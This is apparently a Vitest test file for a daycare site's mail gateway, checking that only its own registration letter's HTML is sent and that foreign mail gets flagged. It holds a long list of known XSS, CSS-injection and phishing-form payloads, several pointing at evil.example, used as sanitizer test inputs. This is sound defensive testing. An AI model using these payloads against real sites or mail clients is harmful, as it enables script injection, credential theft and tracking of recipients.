// @vitest-environment jsdom
// Which HTML is mailed to the daycare: that of the site's own registration letter, composed again word for word, and no other (REQ M38).
import { expect, test } from 'vitest';

import { foreignSubjectPrefix } from '#gateway/letters/policy.ts';
import { limits } from '#mail/contract.ts';
import { registrationReport } from '#mail/registration-report.ts';

import { answers, filled, now, provider } from '../../mail/family.ts';
import { openGateway } from '../gateway.ts';

const treeOf = (html: string) =>
  new DOMParser().parseFromString(html, 'text/html').documentElement.outerHTML.replace(/\s+/g, ' ');
const report = registrationReport(provider, answers, now);

test('our own letter keeps every word and every colour', async () => {
  const gateway = await openGateway();
  await gateway.send(report);
  const [mail] = await gateway.mails();
  expect(report.html).toContain('style=');
  expect(treeOf(String(mail?.html))).toBe(treeOf(report.html!));
});

/** Vectors of the well-known collections (OWASP, PortSwigger, html5sec), and tricks that need no script. */
const vectors = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=data:,alert(1)>
<scr<script>ipt>alert(1)</scr</script>ipt>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x">
<svg><a xlink:href="javascript:alert(1)"><text>go</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">CLICK</math>
<img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.gif">
<img srcset="https://evil.example/a 1x">
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src=x:alert(1) onerror=eval(src)>
<picture><source srcset="https://evil.example/x"></picture>
<video src="https://evil.example/x" poster="https://evil.example/y" onloadstart=alert(1)></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<body background="https://evil.example/x">
<table background="https://evil.example/x"><td background="https://evil.example/y">x</td></table>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset><frame src="https://evil.example"></frameset>
<object data="javascript:alert(1)"></object>
<embed src="https://evil.example/x.swf">
<applet code="x"></applet>
<form action="https://evil.example"><input name=password><button formaction="https://evil.example">Log in</button></form>
<isindex action="javascript:alert(1)">
<select onfocus=alert(1) autofocus><option>x</select>
<textarea autofocus onfocus=alert(1)>x</textarea>
<details open ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<dialog open onclose=alert(1)>x</dialog>
<div onmouseover="alert(1)">x</div>
<p onclick=alert&#40;1&#41;>x</p>
<div style="background:url(https://evil.example/x)">x</div>
<div style="background:url('javascript:alert(1)')">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>
<div style="behavior:url(x.htc)">x</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Log in again</div>
<div style="display:none">hidden words</div>
<div style="color:#FFFDF9;font-size:1px">hidden words</div>
<div style="font-size:0">hidden words</div>
<p style="margin:0 0 16px;position:fixed">x</p>
<p style="margin:0 0 16px ">x</p>
<style>*{display:none}</style>
<style>@import 'https://evil.example/x.css';</style>
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=prefetch href="https://evil.example/x">
<meta http-equiv=refresh content="0;url=https://evil.example">
<meta name=referrer content=unsafe-url>
<base href="https://evil.example/">
<a href="javascript:alert(1)">go</a>
<a href="JaVaScRiPt:alert(1)">go</a>
<a href="java&#9;script:alert(1)">go</a>
<a href="&#106;avascript:alert(1)">go</a>
<a href=" &#14; javascript:alert(1)">go</a>
<a href="data:text/html,<script>alert(1)</script>">go</a>
<a href="vbscript:msgbox(1)">go</a>
<a href="//evil.example">info@prairielantern.example</a>
<a href="https://evil.example">https://www.alberta.ca/child-care</a>
<a href="mailto:evil@evil.example?subject=x">Reply to the parent</a>
<a href="tel:+19005550000">403-555-0167</a>
<area href="https://evil.example">
<map name=x><area shape=rect coords=0,0,9,9 href="https://evil.example"></map>
<button onclick=alert(1)>x</button>
<x onclick=alert(1) style="x">x</x>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<plaintext><script>alert(1)
<title><img src=x onerror=alert(1)></title>
<!--><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<div id=x name=y class=z data-x=1 contenteditable accesskey=x>x</div>
<p dir=rtl lang="x" onfocus=alert(1) tabindex=1>x</p>
<time datetime="x" onclick=alert(1)>x</time>
<th scope="row" onclick=alert(1)>x</th>
<p/onclick=alert(1)/style="color:red">x</p>
<<p onclick=alert(1)//<p>
<p style="color:red" style="margin:0">x</p>
</p style="x" onclick=alert(1)>
`
  .trim()
  .split('\n');

test.each(vectors)('%s leaves no script, handler, style trick, form, remote picture or link', async (vector) => {
  const gateway = await openGateway();
  for (const [index, html] of [
    vector,
    `<table><tr><td>${vector}</td></tr></table>`,
    report.html!.replace('</h1>', `</h1>${vector}`),
  ].entries())
    expect((await gateway.send({ ...report, message: `Number ${index}`, html })).statusCode).toBe(200);
  const mails = await gateway.mails();
  expect(mails).toHaveLength(3);
  for (const mail of mails) {
    expect(mail.html).toBe(false);
    expect(mail.subject).toBe(`${foreignSubjectPrefix} ${report.subject}`);
    expect(mail.attachments).toEqual([]);
  }
});

test.each(vectors)('%s typed into every field stays words in our own letter', async (vector) => {
  const gateway = await openGateway();
  const plain = filled(() => 'x');
  const typed = { ...filled(() => vector.slice(0, 60)), note: vector };
  expect((await gateway.send(registrationReport(provider, typed, now))).statusCode).toBe(200);
  const [mail] = await gateway.mails();
  const elementsOf = (html: string) =>
    [...new DOMParser().parseFromString(html, 'text/html').querySelectorAll('*')].map((element) =>
      [element.localName, ...[...element.attributes].map(({ name, value }) => `${name}=${value}`)].join(' '),
    );
  expect(elementsOf(String(mail?.html))).toEqual(elementsOf(registrationReport(provider, plain, now).html!));
});

test('mail that was not composed by the forms of the site keeps its words, says so first in its subject, and has nobody to reply to', async () => {
  const gateway = await openGateway();
  const subject = 'Invoice '.repeat(limits.subject / 8);
  const foreign = {
    to: provider.email,
    subject,
    message: 'Pay here.\n\nName: Eve\nEmail: eve@x.example\nPhone: 1',
    html: '<p>Pay</p>',
  };
  expect((await gateway.send(foreign)).statusCode).toBe(200);
  const [mail] = await gateway.mails();
  expect(mail?.subject?.startsWith(`${foreignSubjectPrefix} Invoice`)).toBe(true);
  expect(mail?.subject).toHaveLength(foreignSubjectPrefix.length + subject.length);
  expect(mail?.text).toContain('Pay here.');
  expect(mail?.html).toBe(false);
  expect(mail?.replyTo).toBeUndefined();
});
